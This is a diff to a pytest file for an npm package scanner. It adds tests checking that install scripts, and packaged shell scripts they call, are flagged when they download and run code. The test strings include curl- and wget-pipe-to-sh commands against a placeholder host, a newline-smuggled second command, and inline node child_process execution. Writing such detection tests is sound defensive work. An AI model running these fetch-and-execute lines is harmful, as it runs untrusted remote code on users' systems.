@@ -64,6 +64,10 @@ def test_a_policy_inside_the_archive_cannot_lower_it() -> None:
         ("node --eval=\"require('child_process').exec('id')\"", "`node --eval` runs inline code that"),
         ("bash -lc 'curl -s https://get.example/i | sh'", "`sh` runs what was just downloaded"),
         ("echo ok;curl -o x https://get.example/x", "`curl` downloads code at install time"),
+        (
+            "echo ok\nwget -qO- https://get.example/x | sh",
+            "`sh` runs what was just downloaded",
+        ),  # a newline ends a command
     ],
 )
 def test_inline_and_downloaded_install_code_is_an_error(script: str, what: str) -> None:
@@ -100,3 +104,42 @@ def test_a_script_longer_than_extgate_reads_is_a_payload_not_a_blind_spot() -> N
     verdict = check(tgz(manifest), allow, options=Options(acknowledge_all=True, network=False, offline=True))
     (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
     assert finding.level is Level.ERROR and "20,041 characters long" in finding.message
+
+
+@pytest.mark.parametrize(
+    ("script", "files", "what"),
+    [
+        ("sh install.sh", {"install.sh": "#!/bin/sh\nset -e\ncurl -fsSL https://get.example/i | sh\n"},
+         "runs install.sh, where `sh` runs what was just downloaded"),
+        ("bash ./scripts/setup.sh --quiet", {"scripts/setup.sh": "wget -q https://get.example/x -O /tmp/x"},
+         "runs ./scripts/setup.sh, where `wget` downloads code at install time"),
+        ("./scripts/postinstall", {"scripts/postinstall": "#!/bin/bash\nnode -e \"require('child_process')"
+                                                          ".exec('id')\"\n"},
+         "runs ./scripts/postinstall, where `node -e` runs inline code that"),
+        ("sh a.sh", {"a.sh": "sh lib/b.sh", "lib/b.sh": "npx evil-helper"},  # nested, relative to the package
+         "runs lib/b.sh, where `npx` fetches and runs a package"),
+    ],
+)  # fmt: skip
+def test_packaged_shell_scripts_the_install_script_runs_are_read(script: str, files: dict[str, str], what: str) -> None:
+    """The file is in the archive, but package.json only names it: `sh install.sh` passed while install.sh ran
+    `curl | sh` (under a policy that allows install scripts, the payload rule is the only line of defence)."""
+    manifest = {**SCRIPTED, "scripts": {"postinstall": script}}
+    allow = Policy.from_mapping({"rules": {"manifest/install-script": {"level": "warning"}}}, "caller")
+    verdict = check(tgz(manifest, files), allow, options=Options(acknowledge_all=True, network=False, offline=True))
+    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
+    assert finding.level is Level.ERROR and what in finding.message, finding.message
+
+
+@pytest.mark.parametrize(
+    ("script", "files"),
+    [
+        ("sh install.sh", {"install.sh": "#!/bin/sh\nnode-gyp rebuild\n"}),  # a harmless packaged script
+        ("sh missing.sh", {}),  # not shipped: the shell fails, nothing runs
+        ("./bin/setup", {"bin/setup": "#!/usr/bin/env node\nrequire('./lib');\n"}),  # node: the code gate's
+        ("sh -c 'node x.js'", {"x.js": ""}),
+    ],
+)
+def test_harmless_or_absent_packaged_scripts_are_not_payloads(script: str, files: dict[str, str]) -> None:
+    manifest = {**SCRIPTED, "scripts": {"install": script}}
+    verdict = check(tgz(manifest, files), options=Options(network=False, offline=True))
+    assert not [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
